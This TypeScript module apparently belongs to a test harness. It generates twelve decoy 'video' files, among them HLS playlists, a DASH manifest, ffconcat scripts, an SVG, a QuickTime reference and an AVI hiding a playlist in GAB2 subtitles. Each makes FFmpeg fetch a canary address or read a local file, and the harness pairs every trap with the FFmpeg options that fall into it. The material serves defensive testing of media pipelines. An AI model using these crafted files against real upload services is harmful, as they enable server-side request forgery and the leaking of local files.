import { box, riffChunk, riffChunks, withBox, words } from './boxes.ts';
import type { Canary } from './canary.ts';

/** A file under a video's name that sends whoever reads it to the canary. */
export interface Trap {
  about: string;
  /** What it really is, by its usual name: FFmpeg goes by that, too. */
  name: string;
  /** @param clips real ones, by name */
  make(canary: Canary, clips: Record<'mp4' | 'avi', Buffer>): Buffer;
  /** Options with which FFmpeg, left to itself, walks into it; undefined where no FFmpeg does any more. */
  naive?: string[];
  /** `unreadable` unless said. */
  becomes?: string;
}

const ALL = ['-protocol_whitelist', 'file,http,tcp,crypto,data'];
const playlist = (...lines: string[]) => text('#EXTM3U', '#EXT-X-TARGETDURATION:1', ...lines, '#EXT-X-ENDLIST');

export const traps: Trap[] = [
  {
    about: 'a playlist whose segments are at an address',
    name: 'list.m3u8',
    make: ({ address }) => playlist('#EXTINF:1,', `${address}/segment.ts`),
    naive: ALL,
  },
  {
    about: 'a playlist whose segments are files',
    name: 'list.m3u8',
    make: ({ pipe }) => playlist('#EXTINF:1,', `file://${pipe}`),
    naive: ALL,
  },
  {
    about: 'a playlist with a key at an address',
    name: 'list.m3u8',
    make: ({ address }) =>
      playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${address}/key"`, '#EXTINF:1,', `${address}/segment.ts`),
    naive: ALL,
  },
  {
    about: 'a playlist that sends what a file says along with an address',
    name: 'list.m3u8',
    make: ({ address, text }) => playlist('#EXTINF:1,', `concat:${address}/head|subfile,,start,0,end,64,,:${text}`),
  },
  {
    about: 'a playlist of playlists',
    name: 'list.m3u8',
    make: ({ address }) => text('#EXTM3U', '#EXT-X-STREAM-INF:BANDWIDTH=1000', `${address}/media.m3u8`),
    naive: ALL,
  },
  {
    about: 'a DASH manifest',
    name: 'manifest.mpd',
    make: ({ address }) =>
      text(
        '<?xml version="1.0"?>',
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"',
        ' profiles="urn:mpeg:dash:profile:isoff-main:2011">',
        '<Period duration="PT1S"><AdaptationSet mimeType="video/mp4">',
        '<Representation id="1" bandwidth="1" codecs="avc1.4d401e" width="64" height="64">',
        `<BaseURL>${address}/dash.mp4</BaseURL></Representation>`,
        '</AdaptationSet></Period></MPD>',
      ),
    naive: ALL,
  },
  {
    about: 'a script of files to join',
    name: 'script.ffconcat',
    make: ({ pipe }) => text('ffconcat version 1.0', `file '${pipe}'`),
    naive: [...ALL, '-safe', '0'],
  },
  {
    about: 'a script of addresses to join',
    name: 'script.ffconcat',
    make: ({ address }) => text('ffconcat version 1.0', `file '${address}/part.mp4'`),
    naive: [...ALL, '-safe', '0'],
  },
  {
    about: 'a description of a session',
    name: 'session.sdp',
    make: ({ address }) =>
      text(
        'v=0',
        'o=- 0 0 IN IP4 127.0.0.1',
        's=x',
        'c=IN IP4 127.0.0.1',
        't=0 0',
        `m=video ${new URL(address).port} TCP 96`,
      ),
  },
  {
    about: 'a drawing that shows a file',
    name: 'drawing.svg',
    make: ({ pipe }) =>
      text(
        '<?xml version="1.0"?>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">',
        `<image xlink:href="file://${pipe}" width="64" height="64"/></svg>`,
      ),
    becomes: 'not_a_video',
  },
  {
    about: 'a film whose pictures are in another file',
    name: 'reference.mov',
    make: ({ pipe }, { mp4 }) => withBox(mp4, ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref'], () => alias(pipe)),
    naive: [...ALL, '-enable_drefs', '1', '-use_absolute_path', '1'],
    becomes: 'undecodable',
  },
  {
    about: 'a playlist that hides in the subtitles of a film',
    name: 'subtitled.avi',
    make: ({ address }, { avi }) => withSubtitles(avi, playlist('#EXTINF:1,', `${address}/segment.ts`)),
    becomes: 'completed',
  },
];

/** Padded, since FFmpeg looks at the beginning of a file only and wants some of it. */
function text(...lines: string[]): Buffer {
  return Buffer.from(`${lines.join('\n')}\n`.padEnd(4096, '\n'));
}

/** QuickTime's reference to a file elsewhere, as Macintosh wrote them. */
function alias(path: string): Buffer {
  const [fixed, target] = [Buffer.alloc(138), Buffer.from(path)];
  const entry = Buffer.alloc(4 + target.length + (target.length % 2));
  entry.writeUInt16BE(2, 0);
  entry.writeUInt16BE(target.length, 2);
  target.copy(entry, 4);
  return Buffer.concat([
    words(0, 1),
    box('alis', words(0), fixed, Buffer.alloc(12), entry, Buffer.from('ffff0000', 'hex')),
  ]);
}

/** An AVI with a stream of subtitles more, in the form that names another file's format inside (GAB2). */
function withSubtitles(avi: Buffer, hidden: Buffer): Buffer {
  const [riff] = riffChunks(avi);
  if (!riff) throw new Error('no AVI');
  const content = riffChunks(riff.content).map(({ name, type, content }) => {
    if (type === 'hdrl') return riffChunk(name, Buffer.concat([oneStreamMore(content), subtitleHeader()]), type);
    if (type === 'movi') return riffChunk(name, Buffer.concat([subtitle(hidden), content]), type);
    return riffChunk(name, content, type);
  });
  // Without the index, whose places are no longer right.
  return riffChunk('RIFF', Buffer.concat(content.filter((chunk) => chunk.toString('latin1', 0, 4) !== 'idx1')), 'AVI ');
}

function oneStreamMore(headers: Buffer): Buffer {
  const changed = Buffer.from(headers);
  const streams = 8 + 24;
  changed.writeUInt32LE(changed.readUInt32LE(streams) + 1, streams);
  return changed;
}

function subtitleHeader(): Buffer {
  const header = Buffer.alloc(56);
  header.write('txts', 0, 'latin1');
  header.writeUInt32LE(1, 20);
  header.writeUInt32LE(25, 24);
  header.writeUInt32LE(25, 32);
  return riffChunk('LIST', Buffer.concat([riffChunk('strh', header), riffChunk('strf', Buffer.alloc(0))]), 'strl');
}

function subtitle(hidden: Buffer): Buffer {
  const name = Buffer.from('x\0', 'utf16le');
  const head = Buffer.alloc(11);
  head.write('GAB2\0', 0, 'latin1');
  head.writeUInt16LE(2, 5);
  head.writeUInt32LE(name.length, 7);
  const size = Buffer.alloc(6);
  size.writeUInt16LE(4, 0);
  size.writeUInt32LE(hidden.length, 2);
  return riffChunk('02tx', Buffer.concat([head, name, size, hidden]));
}
